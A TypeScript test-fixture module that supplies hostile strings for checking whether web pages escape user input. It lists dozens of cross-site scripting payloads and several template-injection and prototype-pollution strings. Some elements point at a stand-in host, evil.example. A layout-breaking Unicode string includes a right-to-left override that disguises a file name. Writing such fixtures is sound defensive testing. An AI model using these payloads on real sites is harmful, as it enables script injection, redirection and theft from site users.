/** Texts that a page which puts them in as anything but text would run, load or grow by. What each would grow is marked data-xss. */
const IMG = '<img data-xss src=x onerror=alert(1)>';

export const ATTACKS: readonly string[] = [
  '<script data-xss>alert(1)</script>',
  '"><script data-xss>alert(1)</script>',
  '</script><script data-xss>alert(1)</script>',
  IMG,
  `'>${IMG}`,
  `">${IMG}`,
  `</title>${IMG}`,
  `</textarea>${IMG}`,
  `</style>${IMG}`,
  `</noscript>${IMG}`,
  `<!-->${IMG}`,
  `<![CDATA[${IMG}]]>`,
  '<svg data-xss onload=alert(1)>',
  '<svg data-xss><script>alert(1)</script></svg>',
  '<math data-xss><mtext><img src=x onerror=alert(1)>',
  '<iframe data-xss src="javascript:alert(1)">',
  '<iframe data-xss srcdoc="<script>parent.alert(1)</script>">',
  '<a data-xss href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script data-xss>alert(1)</script>',
  'url("javascript:alert(1)")',
  '<details data-xss open ontoggle=alert(1)>',
  '<body data-xss onload=alert(1)>',
  '<input data-xss autofocus onfocus=alert(1)>',
  '<video data-xss><source onerror=alert(1)>',
  '<object data-xss data="https://evil.example/">',
  '<embed data-xss src="https://evil.example/">',
  '<base data-xss href="https://evil.example/">',
  '<link data-xss rel=stylesheet href="https://evil.example/a.css">',
  '<meta data-xss http-equiv=refresh content="0;url=https://evil.example/">',
  '<style data-xss>*{background:url(https://evil.example/)}</style>',
  '<form data-xss action="https://evil.example/"><button>',
  '<template data-xss><img></template>',
  '<x-attack data-xss onclick=alert(1)>',
  '&lt;img data-xss src=x onerror=alert(1)&gt;',
  '&#60;img data-xss src=x onerror=alert(1)&#62;',
  '%3Cimg%20data-xss%20src=x%20onerror=alert(1)%3E',
  '\\x3cimg data-xss src=x onerror=alert(1)\\x3e',
  '\\u003cimg data-xss src=x onerror=alert(1)\\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as it would be planted
  '${alert(1)}',
  '<%= alert(1) %>',
  '";alert(1);//',
  "'-alert(1)-'",
  '{{7*7}}',
  '#{7*7}',
  '__proto__[polluted]=1',
];

/** Some of them after one another, as many as a field of that size holds: the first is another one each time. */
export function attackOf(maxChars: number, from = 0): string {
  let text = '';
  for (let i = 0; i < ATTACKS.length; i++) {
    const next = ATTACKS[(from + i) % ATTACKS.length] ?? '';
    if (text.length + next.length + 1 <= maxChars) text += (text ? ' ' : '') + next;
  }
  return text;
}

/** The same for fields that hold printable ASCII without spaces. */
export const attackWithoutSpaces = (maxChars: number, from = 0): string =>
  attackOf(maxChars, from).replace(/[^\x21-\x7e]/g, '/');

/** What tears a layout: text from right to left and what turns it, letters that cannot be seen, letters of many marks, and emoji. */
const UNRULY = `\u202egpj.exe\u202c \u05e9\u05dc\u05d5\u05dd \u200f\u2067abc\u2069 \u200b\u2060 Z${'\u0335\u0321'.repeat(6)} \u{1f469}\u200d\u{1f469}\u200d\u{1f467} \u{1f3f3}\ufe0f\u200d\u{1f308} `;

/** One line of that size: such letters, then one word without end. */
export const unrulyLine = (maxChars: number): string =>
  UNRULY.padEnd(maxChars, 'W').slice(0, maxChars).toWellFormed();

/** The same with lines and tabs. */
export const unrulyText = (maxChars: number): string => unrulyLine(maxChars).replaceAll(' ', '\r\n\t');

/** For a field of one line: half of it would run, half of it tears. */
export const hostileLine = (maxChars: number, from = 0): string =>
  `${attackOf(maxChars / 2 - 1, from)} ${unrulyLine(maxChars / 2)}`.trim();
